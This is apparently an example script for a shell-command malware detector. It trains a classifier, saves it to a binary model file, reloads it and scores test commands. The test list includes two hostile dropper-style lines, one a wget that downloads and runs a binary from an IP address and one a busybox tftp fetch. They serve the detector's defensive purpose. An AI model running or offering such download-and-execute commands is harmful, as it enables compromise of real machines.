"""Train once, save a single model file, reload it and score new commands."""

import os
import tempfile

import numpy as np

from shellgate import modelfile
from shellgate.pipeline import Pipeline, PipelineConfig
from shellgate.synthetic import surrogate_corpus

corpus = surrogate_corpus(600, 600, seed=5)
pipe = Pipeline.fit(corpus, PipelineConfig(mode="char", model="lr"))
print(f"vocabulary {len(pipe.vocab)} n-grams, PCA {pipe.pca.d} -> {pipe.pca.q}")

path = os.path.join(tempfile.mkdtemp(), "detector.shlc")
modelfile.save(pipe, path)
raw = open(path, "rb").read()
print(f"model file {len(raw)} bytes, header {raw[:5]!r}")

# Walk the sections: 4-byte tag, u64 length, payload.
pos = 5
while pos < len(raw):
    tag, length = raw[pos:pos + 4], int.from_bytes(raw[pos + 4:pos + 12], "little")
    print(f"  {tag.decode()} {length:8d} bytes")
    pos += 12 + length

again = modelfile.load(path)
tests = [b"cd /tmp; wget http://185.224.128.9/arm7; chmod 777 arm7; ./arm7",
         b"sudo apt install htop",
         b"git commit -am 'fix typo'",
         b"/bin/busybox tftp -g -r mpsl 94.156.8.33"]
p1, p2 = pipe.predict_texts(tests), again.predict_texts(tests)
print("reloaded model gives identical probabilities:", np.array_equal(p1, p2))
for t, p in zip(tests, p2):
    print(f"  {p:.4f}  {'malicious' if p >= 0.5 else 'benign   '}  {t.decode()}")

# A truncated file is refused rather than half-loaded.
try:
    modelfile.loads(raw[:-3])
except modelfile.ModelFileError as exc:
    print("truncated file:", exc)
